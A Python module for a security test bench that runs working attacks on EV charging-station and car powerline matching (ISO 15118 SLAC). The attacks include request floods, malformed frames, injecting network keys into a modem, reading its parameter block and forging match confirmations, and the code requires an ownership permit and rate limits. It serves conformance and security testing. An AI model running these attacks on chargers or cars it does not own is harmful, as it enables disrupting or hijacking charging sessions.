"""Attacks on the matching, for equipment of one's own: what a good station or car makes of them, and what
this one did.

    permit = Permit(frozenset({evse_mac}), i_own_this=True)
    async with attacker("eth1", permit, capture=Path("attack.pcap")) as bench:
        finding = await ATTACKS["run-id flood"].run(bench)

Every attack needs an interface, a list of target addresses and the flag; frames leave at a bounded rate and
everything is captured. Nothing here writes to a modem's flash or parameter block.

A "probe" is the beginning of an ordinary matching: does the station still answer it?
"""

from __future__ import annotations

import os
import time
from collections.abc import AsyncIterator, Awaitable, Callable
from contextlib import asynccontextmanager
from dataclasses import dataclass
from pathlib import Path
from typing import Any, Literal

import trio
from scapy.packet import Raw
from scapy.utils import RawPcapWriter

from iso15118.slac import EvseSlac, EvseSlacConfig, Validation, nid_from_nmk
from iso15118.slac import messages as m

from . import layers_mme as lm
from . import layers_vendor as lv
from .host import Host, single_exceptions
from .link import EthernetLink
from .matching import Slac, open_link
from .modems import Modem
from .wire import MalformedMme, build, packet, parse

Against = Literal["EV", "EVSE"]

ON_MODEM = frozenset({"key over the line", "remote management"})
"""Attacks whose target is the device's modem, not its host."""


class NotPermitted(RuntimeError):
    """The attack was not asked for in the way it has to be."""


@dataclass(frozen=True, slots=True)
class Permit:
    """What one is allowed to do: to whom (host and modem addresses; broadcasts reach everybody on the line,
    so the line has to be one's own as a whole), and how fast."""

    targets: frozenset[m.Mac]
    i_own_this: bool = False
    frames_per_second: float = 500.0

    def check(self) -> None:
        if not self.i_own_this:
            raise NotPermitted(
                "attacks need --i-own-this (i_own_this=True): only on equipment and lines of one's own"
            )
        if not self.targets:
            raise NotPermitted("attacks need the addresses of their targets: --target")


@dataclass(frozen=True, slots=True)
class Finding:
    """good: the target behaved as it should; None: nothing to judge was seen."""

    attack: str
    good: bool | None
    observed: str


class Attacker:
    """A host that sends what it should not. ``seen`` keeps what arrived, as (sender, message)."""

    def __init__(self, host: Host, permit: Permit) -> None:
        permit.check()
        self.host = host
        self.permit = permit
        self.seen: list[tuple[m.Mac, m.SlacMessage]] = []
        self._next_send = 0.0
        host.listeners.append(self._hear)

    def _hear(self, frame: bytes) -> None:
        try:
            parsed = parse(frame)
        except MalformedMme:
            return
        if parsed:
            self.seen.append(parsed)

    @property
    def target(self) -> m.Mac:
        return min(self.permit.targets)

    async def send(self, frame: bytes) -> None:
        """To a target or to all, at the permitted rate."""
        destination = frame[:6]
        if destination not in self.permit.targets and not destination[0] & 1:
            raise NotPermitted(f"{m.mac_text(destination)} is not among the targets")
        now = trio.current_time()
        self._next_send = max(now, self._next_send) + 1 / self.permit.frames_per_second
        await trio.sleep(max(0.0, self._next_send - now - 1 / self.permit.frames_per_second))
        self.host.send(frame)

    async def say(self, message: m.SlacMessage, to: m.Mac | None = None, source: m.Mac | None = None) -> None:
        await self.send(build(to or self.target, source or self.host.mac, message))

    async def answers(self, kind: type[Any], run_id: bytes | None = None, within: float = 0.4) -> list[Any]:
        """Messages of this kind that came since the last call of ``forget``, waiting a while for the
        first."""

        def found() -> list[Any]:
            return [
                message
                for source, message in self.seen
                if isinstance(message, kind)
                and source in self.permit.targets
                and (run_id is None or getattr(message, "run_id", run_id) == run_id)
            ]

        with trio.move_on_after(within):
            while not found():
                await trio.sleep(0.005)
        return found()

    def forget(self) -> None:
        self.seen.clear()

    async def probe(self) -> bool:
        run_id = os.urandom(8)
        for _ in range(3):
            await self.say(m.SlacParmReq(run_id), to=m.BROADCAST)
            if await self.answers(m.SlacParmCnf, run_id, within=0.2):
                return True
        return False

    async def ready(self, within: float) -> bool:
        """Whether the station answers an honest request, now or soon; it has dropped that matching again."""
        with trio.move_on_after(within):
            while not await self.probe():
                await trio.sleep(0.5)
            await trio.sleep(1)
            return True
        return False

    async def heard(self, kind: type[Any], within: float) -> tuple[m.Mac, Any] | None:
        """The next message of this kind from a target."""
        start = len(self.seen)
        with trio.move_on_after(within):
            while True:
                for source, message in self.seen[start:]:
                    if isinstance(message, kind) and source in self.permit.targets:
                        return source, message
                await trio.sleep(0.002)
        return None


Run = Callable[[Attacker], Awaitable[Finding]]


@dataclass(frozen=True, slots=True)
class Attack:
    name: str
    against: Against
    good: str  # what a good target does
    run: Run


ATTACKS: dict[str, Attack] = {}


def attack(name: str, against: Against, good: str) -> Callable[[Callable[..., Any]], Callable[..., Any]]:
    def register(function: Callable[[Attacker], Awaitable[tuple[bool | None, str]]]) -> Callable[..., Any]:
        async def run(bench: Attacker) -> Finding:
            bench.forget()
            verdict, observed = await function(bench)
            return Finding(name, verdict, observed)

        ATTACKS[name] = Attack(name, against, good, run)
        return function

    return register


@asynccontextmanager
async def attacker(
    interface: EthernetLink | str, permit: Permit, *, capture: Path
) -> AsyncIterator[Attacker]:
    """An attacker on this interface; all frames go into the capture (pcap)."""
    permit.check()
    link = open_link(interface)
    writer = RawPcapWriter(str(capture), linktype=1, sync=True)
    writer.write_header(None)

    def tap(frame: bytes, _sent: bool) -> None:
        now = time.time()
        writer.write_packet(frame, sec=int(now), usec=int(now % 1 * 1e6))

    try:
        async with single_exceptions(), trio.open_nursery() as nursery:
            host = Host(link)
            host.taps.append(tap)
            bench = Attacker(host, permit)
            nursery.start_soon(host.run)
            yield bench
            nursery.cancel_scope.cancel()
    finally:
        writer.close()
        if isinstance(interface, str):
            link.close()


# --- against a station --------------------------------------------------------------------------------


@attack(
    "run-id flood", "EVSE", "serves at least five EVs at once, stays bounded, still answers an honest one"
)
async def run_id_flood(bench: Attacker) -> tuple[bool | None, str]:
    for _ in range(400):
        source = b"\x02" + os.urandom(5)
        await bench.say(m.SlacParmReq(os.urandom(8)), to=m.BROADCAST, source=source)
    served = await bench.probe()
    return served, f"after 400 requests an honest one is {'answered' if served else 'not answered'}"


@attack("restart in the middle", "EVSE", "a second CM_SLAC_PARM.REQ of the same EV restarts its session")
async def restart_in_the_middle(bench: Attacker) -> tuple[bool | None, str]:
    first, second = os.urandom(8), os.urandom(8)
    await bench.say(m.SlacParmReq(first), to=m.BROADCAST)
    if not await bench.answers(m.SlacParmCnf, first):
        return None, "the station does not answer an honest request"
    await bench.say(m.StartAttenCharInd(first, bench.host.mac), to=m.BROADCAST)
    await bench.say(m.SlacParmReq(second), to=m.BROADCAST)
    answered = await bench.answers(m.SlacParmCnf, second)
    stale = await bench.answers(m.AttenCharInd, first, within=1.0)
    good = bool(answered) and not stale
    return (
        good,
        f"second request {'answered' if answered else 'ignored'}, {len(stale)} report(s) for the first",
    )


@attack(
    "bad headers",
    "EVSE",
    "ignores requests for other applications, with security, or in fragments",
)
async def bad_headers(bench: Attacker) -> tuple[bool | None, str]:
    if not await bench.probe():
        return None, "the station does not answer an honest request"
    answered = []
    for words, frame in _bad_requests(bench.host.mac):
        bench.forget()
        await bench.send(frame)
        if await bench.answers(m.SlacParmCnf, within=0.25):
            answered.append(words)
    alive = await bench.probe()
    told = f"answered: {', '.join(answered)}" if answered else "none answered"
    return not answered and alive, f"{told}; honest request afterwards {'answered' if alive else 'ignored'}"


def _bad_requests(source: m.Mac) -> list[tuple[str, bytes]]:
    body = lm.CM_SLAC_PARM_REQ(run_id=os.urandom(8))
    return [
        ("application type 1", build(m.BROADCAST, source, m.SlacParmReq(os.urandom(8), application_type=1))),
        ("security type 1", build(m.BROADCAST, source, m.SlacParmReq(os.urandom(8), security_type=1))),
        ("fragment", bytes(packet(m.BROADCAST, source, body, fmi=0x11))),
    ]


@attack("match without sounding", "EVSE", "does not hand out its key")
async def match_without_sounding(bench: Attacker) -> tuple[bool | None, str]:
    run_id = os.urandom(8)
    await bench.say(m.SlacParmReq(run_id), to=m.BROADCAST)
    if not await bench.answers(m.SlacParmCnf, run_id):
        return None, "the station does not answer an honest request"
    await bench.say(m.SlacMatchReq(run_id, bench.host.mac, bench.target))
    given = await bench.answers(m.SlacMatchCnf, run_id)
    return not given, "key given" if given else "no answer"


@attack(
    "match for another station", "EVSE", "ignores CM_SLAC_MATCH.REQ with another EVSE's address [V2G3-A09-98]"
)
async def match_for_another(bench: Attacker) -> tuple[bool | None, str]:
    run_id = await sounded(bench)
    if run_id is None:
        return None, "no CM_ATTEN_CHAR.IND to a correct sounding"
    await bench.say(m.AttenCharRsp(run_id, bench.host.mac))
    await bench.say(m.SlacMatchReq(run_id, bench.host.mac, b"\x02\0\0\0\0\x66"))
    given = await bench.answers(m.SlacMatchCnf, run_id)
    return not given, "key given" if given else "no answer"


@attack("cut short", "EVSE", "ignores a CM_SLAC_MATCH.REQ that ends before its last field [V2G3-A09-98]")
async def cut_short(bench: Attacker) -> tuple[bool | None, str]:
    """Down to 60 bytes: shorter frames are filled up with zeros on their way."""
    run_id = await sounded(bench)
    if run_id is None:
        return None, "no CM_ATTEN_CHAR.IND to a correct sounding"
    await bench.say(m.AttenCharRsp(run_id, bench.host.mac))
    whole = build(bench.target, bench.host.mac, m.SlacMatchReq(run_id, bench.host.mac, bench.target))
    for size in range(60, 77):  # the RunID ends at 77
        await bench.send(whole[:size])
        if await bench.answers(m.SlacMatchCnf, run_id, within=0.05):
            return False, f"key given for {size} bytes"
    return True, "no answer"


@attack("report not acknowledged", "EVSE", "repeats CM_ATTEN_CHAR.IND twice, then gives up")
async def report_not_acknowledged(bench: Attacker) -> tuple[bool | None, str]:
    run_id = await sounded(bench)
    if run_id is None:
        return None, "no CM_ATTEN_CHAR.IND to a correct sounding"
    await trio.sleep(1.5)
    sent = len(await bench.answers(m.AttenCharInd, run_id))
    return sent == 3, f"sent {sent} times"


@attack(
    "sounds missing",
    "EVSE",
    "reports at the deadline with the sounds it heard, or not at all if it heard none",
)
async def sounds_missing(bench: Attacker) -> tuple[bool | None, str]:
    heard = {}
    for count in (9, 1, 0):
        run_id = await sounded(bench, count)
        reports = await bench.answers(m.AttenCharInd, run_id, within=0.1) if run_id else []
        heard[count] = reports[0].num_sounds if reports else 0
    words = ", ".join(f"{got} of {sent}" for sent, got in heard.items())
    return heard == {9: 9, 1: 1, 0: 0}, f"sounds reported: {words}"


@attack("false profiles", "EVSE", "does not let profiles of foreign senders into its average")
async def false_profiles(bench: Attacker) -> tuple[bool | None, str]:
    run_id = os.urandom(8)
    await bench.say(m.SlacParmReq(run_id), to=m.BROADCAST)
    await bench.say(m.StartAttenCharInd(run_id, bench.host.mac), to=m.BROADCAST)
    for left in reversed(range(10)):
        await bench.say(m.MnbcSoundInd(run_id, left, os.urandom(16)), to=m.BROADCAST)
        await bench.say(m.AttenProfileInd(bench.host.mac, (0,) * 58))
    reports = await bench.answers(m.AttenCharInd, run_id, within=1.0)
    if not reports:
        return None, "no report"
    zero = sum(reports[0].attenuation) == 0 or reports[0].num_sounds > 10
    mean = sum(reports[0].attenuation) / len(reports[0].attenuation)
    return not zero, f"reports {mean:.1f} dB from {reports[0].num_sounds} sounds"


@attack("validation unasked", "EVSE", "answers CM_VALIDATE.REQ of nobody it knows with nothing, and lives")
async def validation_unasked(bench: Attacker) -> tuple[bool | None, str]:
    for timer in (0, 0xFF):
        await bench.say(m.ValidateReq(timer))
    answered = await bench.answers(m.ValidateCnf)
    alive = await bench.probe()
    return (
        not answered and alive,
        f"{len(answered)} answer(s), honest request {'answered' if alive else 'ignored'}",
    )


@attack("key over the line", "EVSE", "the modem refuses keys and reset from the powerline")
async def key_over_the_line(bench: Attacker) -> tuple[bool | None, str]:
    """The targets have to include the modem's address. Judged by reading the key's NID before and after."""
    modem = bench.target
    before = await bench.host.request(lm.CM_GET_KEY_REQ(nid=bytes(7)), to=modem, answer=lm.CM_GET_KEY_CNF)
    nmk = os.urandom(16)
    request = lm.CM_SET_KEY_REQ(nid=nid_from_nmk(nmk), nmk=nmk, my_nonce=os.urandom(4))
    await bench.host.request(request, to=modem, timeout=1.0)
    after = await bench.host.request(
        lm.CM_GET_KEY_REQ(nid=bytes(7)), to=modem, attempts=20, answer=lm.CM_GET_KEY_CNF
    )
    if before is None or after is None:
        return None, "the modem does not answer over the line"
    kept = bytes(before.nid) == bytes(after.nid)
    return kept, "key kept" if kept else "key of the modem replaced from outside"


@attack("remote management", "EVSE", "the modem does not show its parameter block to the powerline")
async def remote_management(bench: Attacker) -> tuple[bool | None, str]:
    request = lv.ReadModuleDataRequest(ModuleID=2, Length=0x80, Offset=0)
    cnf = await bench.host.request(request, to=bench.target, answer=lv.ReadModuleDataConfirmation)
    if cnf is None:
        return True, "no answer"
    exposed = cnf.Status == 0 and bool(cnf.ModuleData)
    return not exposed, "key and access key readable by anyone on the line" if exposed else "refused"


@attack(
    "odd messages", "EVSE", "errors, unknown types and fragments are dropped: no crash, no storm of answers"
)
async def odd_messages(bench: Attacker) -> tuple[bool | None, str]:
    before = len(bench.seen)
    for header in (
        {"mmtype": 0x6046},
        {"mmtype": 0x7FFC},
        {"mmtype": 0x6064, "fmi": 0x21},
        {"mmv": 2, "mmtype": 0x6FFD},
    ):
        for size in (0, 1, 46, 1400):
            await bench.send(bytes(packet(m.BROADCAST, bench.host.mac, Raw(bytes(size)), **header)))
    await trio.sleep(0.3)
    answered = len(bench.seen) - before
    alive = await bench.probe()
    return (
        alive and answered == 0,
        f"{answered} answer(s), honest request {'answered' if alive else 'ignored'}",
    )


async def sounded(bench: Attacker, sounds: int = 10) -> bytes | None:
    """A correct run up to the report; its RunID, or None without a report."""
    bench.forget()
    run_id = os.urandom(8)
    await bench.say(m.SlacParmReq(run_id), to=m.BROADCAST)
    await bench.answers(m.SlacParmCnf, run_id)
    for _ in range(3):
        await bench.say(m.StartAttenCharInd(run_id, bench.host.mac), to=m.BROADCAST)
        await trio.sleep(0.03)
    for left in reversed(range(sounds)):
        await bench.say(m.MnbcSoundInd(run_id, left, os.urandom(16)), to=m.BROADCAST)
        await trio.sleep(0.03)
    return run_id if await bench.answers(m.AttenCharInd, run_id, within=1.0) else None


# --- against a car ------------------------------------------------------------------------------------


@attack(
    "rogue station", "EV", "cannot tell by attenuation alone; a good car validates what it finds implausible"
)
async def rogue_station(bench: Attacker) -> tuple[bool | None, str]:
    """A station that reports less attenuation than it measures, and needs no validation."""
    rogue = EvseSlac(
        EvseSlacConfig(
            bench.host.mac,
            validation=Validation.NOT_REQUIRED,
            attenuation_offset=-40,
            synth_attenuation=0,
            answer_unplugged=True,
        ),
        os.urandom,
    )
    running = Slac(rogue, bench.host, Modem(bench.host), None)
    async with trio.open_nursery() as nursery:
        nursery.start_soon(running.run)
        taken = None
        with trio.move_on_after(15):
            while taken is None:
                taken = rogue.match
                await trio.sleep(0.01)
        nursery.cancel_scope.cancel()
    if taken is None and not await bench.answers(m.SlacParmReq, within=0):
        return None, "no car asked"
    if taken is None:
        asked = any(isinstance(message, m.SlacParmReq) for _, message in bench.seen)
        return (True, "the car did not match with the rogue") if asked else (None, "no car asked")
    return False, f"the car took the rogue's key (validation: {taken.validation})"


@attack(
    "early report",
    "EV",
    "ignores CM_ATTEN_CHAR.IND of stations that confirmed nothing, and before the last sound",
)
async def early_report(bench: Attacker) -> tuple[bool | None, str]:
    start = await bench.heard(m.StartAttenCharInd, 60)
    if start is None:
        return None, "no car began to sound"
    ev, message = start
    await bench.say(m.AttenCharInd(message.run_id, ev, (0,) * 58, 10), to=ev)
    await trio.sleep(0.6)
    await bench.say(m.AttenCharInd(message.run_id, ev, (0,) * 58, 10), to=ev)
    taken = await bench.answers(m.AttenCharRsp, message.run_id, within=0.3)
    return not taken, "acknowledged" if taken else "ignored"


@attack(
    "contradicting confirmations", "EV", "takes the larger values of several CM_SLAC_PARM.CNF, and goes on"
)
async def contradicting_confirmations(bench: Attacker) -> tuple[bool | None, str]:
    request = await bench.heard(m.SlacParmReq, 60)
    if request is None:
        return None, "no car asked"
    ev, message = request
    for number, (sounds, time_out) in enumerate(((10, 6), (20, 10), (3, 1))):
        source = bench.host.mac[:5] + bytes([0xC0 + number])
        await bench.say(m.SlacParmCnf(message.run_id, ev, sounds, time_out), to=ev, source=source)
    start = await bench.heard(m.StartAttenCharInd, 3)
    if start is None:
        return False, "the car stopped"
    chosen = (start[1].num_sounds, start[1].time_out)
    return chosen == (20, 10), f"{chosen[0]} sounds in {chosen[1] * 100} ms"


@attack("forged match", "EV", "takes the key of nobody but the station it asked")
async def forged_match(bench: Attacker) -> tuple[bool | None, str]:
    """Sends a confirmation from another address as soon as the car sounds. Judged by the car's further
    requests."""
    start = await bench.heard(m.StartAttenCharInd, 60)
    if start is None:
        return None, "no car began to sound"
    ev, message = start
    nmk = os.urandom(16)
    forged = m.SlacMatchCnf(message.run_id, ev, bench.host.mac, nid_from_nmk(nmk), nmk)
    for _ in range(20):
        await bench.say(forged, to=ev)
        await trio.sleep(0.05)
    joined = await Modem(bench.host).set_key(nid_from_nmk(nmk), nmk)
    await trio.sleep(3)
    link = await Modem(bench.host).link_status()
    if joined is False:
        return None, "the attacker's own modem did not take the key"
    if link is None:
        return None, "the attacker's own modem does not say whether it has a link"
    return not link, "the car's modem is in the attacker's network" if link else "ignored"


async def run_all(bench: Attacker, against: Against) -> list[Finding]:
    """Every attack on that kind of target, one after the other."""
    return [await each.run(bench) for each in ATTACKS.values() if each.against == against]


__all__ = [
    "ATTACKS",
    "Attack",
    "Attacker",
    "Finding",
    "NotPermitted",
    "Permit",
    "attacker",
    "run_all",
]
